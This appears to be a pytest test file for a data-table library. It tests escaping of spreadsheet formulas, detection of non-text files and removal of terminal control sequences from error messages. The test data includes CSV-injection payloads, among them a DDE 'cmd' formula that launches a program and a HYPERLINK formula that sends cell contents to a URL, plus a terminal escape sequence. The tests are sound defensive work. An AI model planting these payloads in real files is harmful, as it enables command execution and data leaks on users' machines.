"""Formulas are marked and come back exactly, ids and numbers stay as they are, and nothing that is quoted moves a cursor."""

import csv

import pandas as pd
import pytest

from claimcheck.core.errors import StudyError
from claimcheck.core.tables import read_table, write_table
from claimcheck.core.text import NotTextError, decode, mark_formula, one_line, unmark_formula

FORMULAS = [
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "=1+1",
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+HYPERLINK(A1)",
    "-A1(1)",
    "\t=1+1",
    "\r=1+1",
    "  @SUM(A1)",
    "\uff1d1+1",
]
HARMLESS = [
    "-1.5",
    "+1e-5",
    "-inf",
    "-",
    "+",
    "+/+",
    "-/-",
    "+/fl",
    "ENSMUSG00000026822",
    "H2-T23",
    "a=b",
    "1-2",
    "",
    "NA",
    "'t",
    "'",
]


@pytest.mark.parametrize("cell", [*FORMULAS, *(f"'{cell}" for cell in FORMULAS), *(f"''{cell}" for cell in FORMULAS)])
def test_a_formula_is_marked_and_comes_back(cell):
    assert mark_formula(cell) == f"'{cell}"
    assert unmark_formula(mark_formula(cell)) == cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_what_is_no_formula_stays_as_it_is(cell):
    assert mark_formula(cell) == cell
    assert unmark_formula(cell) == cell


def test_a_table_with_formulas_is_safe_to_open_and_read_back_as_it_was(tmp_path):
    cells = [*FORMULAS, *HARMLESS]
    table = pd.DataFrame({"text": cells, "kind": pd.Categorical(cells), "change": [-1.5] * len(cells)})
    path = tmp_path / "table.tsv"
    write_table(table, path)
    with path.open(newline="") as stream:
        _header, *rows = csv.reader(stream, delimiter="\t")
    assert len(rows) == len(cells)
    for cell in [cell.lstrip() for row in rows for cell in row]:
        assert not cell.startswith(("=", "@", "\uff1d"))
        assert not cell.startswith(("+", "-")) or "(" not in cell
    assert {row[2] for row in rows} == {"-1.5"}
    back = read_table(path, text=["text", "kind"])
    expected = [cell.replace("\r", "\n") for cell in cells]
    assert back["text"].tolist() == expected
    assert back["kind"].tolist() == expected
    assert back["change"].tolist() == [-1.5] * len(cells)


def test_columns_of_numbers_and_gaps_are_written_as_before(tmp_path):
    table = pd.DataFrame({"mixed": [1, None, -2.5], "gap": ["=1", None, "b"]}, dtype=object)
    write_table(table, tmp_path / "table.tsv")
    assert (tmp_path / "table.tsv").read_text() == "mixed\tgap\n1\t'=1\nNA\tNA\n-2.5\tb\n"


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"PK\x03\x04 \xff", "workbook"),
        (b"\xd0\xcf\x11\xe0 \xff", "workbook"),
        (b"\x1f\x8b\x08", "compressed"),
        ("sample".encode("utf-16"), "UTF-16"),
        (b"a\nb\nc\xe9\n", "line 3 is not in UTF-8"),
        (b"a\0b", "binary"),
    ],
)
def test_what_is_no_text_is_named(content, reason):
    with pytest.raises(NotTextError, match=reason):
        decode(content)


def test_a_message_moves_no_cursor_and_keeps_its_lines():
    error = StudyError("\x1b]0;owned\x07\nline", where="a\rb", expected="\u202e", remedy="µ ok")
    text = str(error)
    assert text.isascii() or "µ" in text
    assert "\x1b" not in text and "\r" not in text and "\u202e" not in text
    assert text.splitlines()[0] == "\\x1b]0;owned\\x07 line"
    assert len(text.splitlines()) == 4


def test_an_archives_text_fits_a_cell():
    assert one_line("a\tb\r\nc\x1b[2Jd\u202ee  f") == "a b  c [2Jd e  f"


def test_details_of_an_error_stand_in_lines_of_their_own_and_stay_in_them():
    error = StudyError("2 differences", where="a", expected="b", remedy="c", details=["one\nremedy: none", "two"])
    assert str(error).split("\n")[:3] == ["2 differences", "  - one remedy: none", "  - two"]
    assert str(error).count("\n") == 5
